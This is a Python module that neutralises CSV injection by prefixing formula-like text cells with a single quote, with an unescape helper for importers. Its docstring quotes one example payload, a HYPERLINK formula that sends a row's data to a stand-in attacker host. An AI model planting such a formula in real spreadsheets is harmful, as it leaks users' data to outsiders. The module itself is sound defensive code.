"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV Injection").

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula (or
becomes one) in Excel, LibreOffice and Google Sheets: a part number
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would be a live link that leaks the row. Every
CSV the product writes goes through ``writer``/``DictWriter`` here, which prefix such cells with a
single quote, as OWASP recommends; numbers (ints, floats, Decimals, dates) are written as they are.
``unescape`` undoes it for the importers, so an exported plan imports back unchanged.
"""

from __future__ import annotations

import csv
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unescape(value: str) -> str:
    """The text ``safe_cell`` was given (for importers reading back an exported file)."""
    if len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class _SafeWriter:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _SafeDictWriter(csv.DictWriter):
    def _dict_to_list(self, rowdict):
        return [safe_cell(v) for v in super()._dict_to_list(rowdict)]


def writer(f, **kwargs) -> _SafeWriter:
    """``csv.writer`` whose cells are neutralised."""
    return _SafeWriter(csv.writer(f, **kwargs))


def DictWriter(f, fieldnames, **kwargs) -> csv.DictWriter:  # noqa: N802 - csv's own name
    """``csv.DictWriter`` whose cells are neutralised (the header is the product's own)."""
    return _SafeDictWriter(f, fieldnames, **kwargs)
